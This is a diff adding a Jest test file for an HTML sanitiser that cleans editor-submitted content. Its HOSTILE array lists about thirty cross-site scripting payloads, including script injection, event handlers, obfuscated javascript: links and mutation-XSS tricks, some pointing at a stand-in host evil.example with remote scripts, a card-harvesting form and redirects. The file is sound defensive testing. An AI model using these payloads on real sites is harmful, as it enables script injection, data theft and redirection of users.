@@ -1,0 +1,70 @@
+import { describe, expect, it } from '@jest/globals';
+import { htmlText, sanitiseHtml } from './sanitise-html.ts';
+
+/** What must be gone from anything an editor, or somebody with an editor's password, sends. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><circle/></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<p onclick="alert(1)">x</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example"><input name="card"></form>',
+  '<style>body { background: url(https://evil.example) }</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<p id="content" class="button">x</p>',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<<script>alert(1)//<</script>',
+];
+
+describe('HTML of an editor', () => {
+  it.each(HOSTILE)('[CT-07] loses what it must not have: %s', (html) => {
+    const safe = sanitiseHtml(html);
+    expect(safe).not.toMatch(
+      /<\/?(?:script|img|svg|iframe|object|embed|form|input|style|link|meta|base|math|noscript)\b/i,
+    );
+    expect(safe).not.toMatch(/<[^>]*\s(?:on\w+|style|id|class|src)\s*=/i);
+    expect(safe).not.toMatch(/href="\s*(?:javascript|vbscript|data):|href="[/\\]{2}/i);
+  });
+
+  it('[CT-07] keeps words, lists, tables and links', () => {
+    const html =
+      '<h2>Titre</h2><p>Un <strong>mot</strong>, <a href="/nos-usines">un lien</a>.</p>' +
+      '<ul><li>un</li></ul><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>';
+    expect(sanitiseHtml(html)).toBe(html);
+  });
+
+  it.each([
+    ['https://example.org/a', '<a href="https://example.org/a" rel="noopener">x</a>'],
+    ['mailto:a@b.example', '<a href="mailto:a@b.example">x</a>'],
+    ['tel:+33199000000', '<a href="tel:+33199000000">x</a>'],
+    ['#bas', '<a href="#bas">x</a>'],
+  ])('[CT-07] a link to %s stays, and opens no way back from outside', (href, expected) => {
+    expect(sanitiseHtml(`<a href="${href}" target="_blank" rel="opener">x</a>`)).toBe(expected);
+  });
+
+  it('has one first heading less than it wrote: the page has its own', () => {
+    expect(sanitiseHtml('<h1>Titre</h1>')).toBe('<h2>Titre</h2>');
+  });
+
+  it('is found by its words', () => {
+    expect(htmlText('<p>Un <b>mot</b><script>x</script></p>')).toBe('Un mot');
+  });
+});
